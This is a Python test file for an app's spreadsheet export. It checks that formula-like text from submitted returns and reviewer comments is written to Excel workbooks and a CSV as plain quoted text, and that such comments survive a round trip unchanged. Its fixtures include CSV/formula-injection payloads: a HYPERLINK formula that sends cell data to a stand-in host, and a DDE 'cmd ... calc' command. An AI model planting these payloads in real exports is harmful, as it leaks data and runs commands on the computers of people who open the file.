"""No formula ever leaves s11: text from a return or a reviewer that looks like a formula is
written into every workbook and the CSV as words (app/reports/cells.py), and the gap
workbook's round trip reads such a comment back unchanged."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.batch.runner import run_batch_command
from app.batch.store import Store
from app.compare.cycles import compare_cycles
from app.reports.cells import TRIGGERS, neutralise, restore
from app.reports.gaps import write_reports
from app.reports.trend import write_xlsx
from app.review.decisions import decide, history

FAKE = "tests.review_extract:extract"
LINK = '=HYPERLINK("http://x.example/?d="&A1,"Open evidence")'
EVIDENCE = "@SUM(1+1)*cmd|' /C calc'!A0"
COMMENT = "=1+2 asked the agency for the log"
FORMULA_TEXTS = (LINK, EVIDENCE, COMMENT)


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_comes_back_unchanged(text: str) -> None:
    safe = neutralise(text)
    assert not safe.startswith(TRIGGERS)
    assert restore(safe) == text
    assert safe.endswith(text)  # the reviewer still sees every word


def test_plain_text_is_written_as_it_is() -> None:
    for text in ("Policy 2024", "'quoted'", "1.1", "", "a=b"):
        assert neutralise(text) == text


def batch(folder: Path, inbox: Path) -> None:
    assert run_batch_command([inbox], folder, 1, False, 60, 1024, False, extract_ref=FAKE) == 0


def hostile_round(tmp_path: Path, name: str = "data") -> Path:
    inbox = tmp_path / f"in-{name}"
    inbox.mkdir()
    (inbox / "return.docx").write_text(f"{LINK}|1.1:no_action,1.2:unanswered|{EVIDENCE}")
    data = tmp_path / name
    batch(data, inbox)
    return data


def formulas_in(xlsx: Path) -> list[str]:
    """Every <f> element in the workbook's sheets (a cell openpyxl or Excel would evaluate)."""
    with zipfile.ZipFile(xlsx) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        return [m for n in sheets for m in re.findall(r"<f[ >].*?</f>", zf.read(n).decode())]


def texts_of(xlsx: Path) -> list[str]:
    wb = load_workbook(xlsx)
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    values.append(cell.value)
    return values


def assert_neutralised(values: list[str], expected: tuple[str, ...]) -> None:
    for text in expected:
        assert "'" + text in values, text
    for value in values:
        assert not value.startswith(TRIGGERS), value


def test_every_workbook_and_the_csv_hold_the_formulas_as_words(tmp_path: Path) -> None:
    data = hostile_round(tmp_path)
    store = Store(data)
    gap = store.db.execute("SELECT gap_id FROM gaps ORDER BY position").fetchone()[0]
    decide(store, gap, "challenged", COMMENT, "rex")
    write_reports(data, store)
    store.close()
    for xlsx, expected in (
        (data / "gaps.xlsx", FORMULA_TEXTS),
        (data / "summary.xlsx", (LINK,)),  # the agency's name; evidence is counted there
    ):
        assert formulas_in(xlsx) == [], xlsx.name
        assert_neutralised(texts_of(xlsx), expected)
    with (data / "gaps.csv").open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert_neutralised(cells, FORMULA_TEXTS)


def test_the_trend_workbook_holds_the_agency_name_as_words(tmp_path: Path) -> None:
    previous, new = hostile_round(tmp_path, "previous"), hostile_round(tmp_path, "new")
    target = tmp_path / "trend.xlsx"
    write_xlsx(compare_cycles(previous, new), target)
    assert formulas_in(target) == []
    assert_neutralised(texts_of(target), (LINK,))


def test_a_comment_beginning_with_a_formula_survives_the_workbook_round_trip(
    tmp_path: Path,
) -> None:
    data = hostile_round(tmp_path)
    inbox = tmp_path / "in-data"
    store = Store(data)
    first, second = [g for (g,) in store.db.execute("SELECT gap_id FROM gaps ORDER BY position")]
    decide(store, first, "challenged", COMMENT, "rex")  # made on the page, written by s11
    write_reports(data, store)
    store.close()
    # A reviewer types a formula-like comment in Excel: it keeps it as text (quote prefix).
    wb = load_workbook(data / "gaps.xlsx")
    ws = wb["Gaps"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[header.index("Gap id")].value == second)
    typed = row[header.index("Reviewer comments")]
    typed.value, typed.data_type = "-2 items still missing", "s"
    row[header.index("Reviewer status")].value = "challenged"
    wb.save(data / "gaps.xlsx")
    batch(data, inbox)  # reads the workbook back, then rewrites it
    batch(data, inbox)  # reads s11's own rewrite: nothing changed
    store = Store(data)
    assert [(h["new_status"], h["comment"]) for h in history(store, first)] == [
        ("challenged", COMMENT)
    ]
    assert [(h["new_status"], h["comment"]) for h in history(store, second)] == [
        ("challenged", "-2 items still missing")
    ]
    store.close()
    assert_neutralised(texts_of(data / "gaps.xlsx"), (COMMENT, "-2 items still missing"))
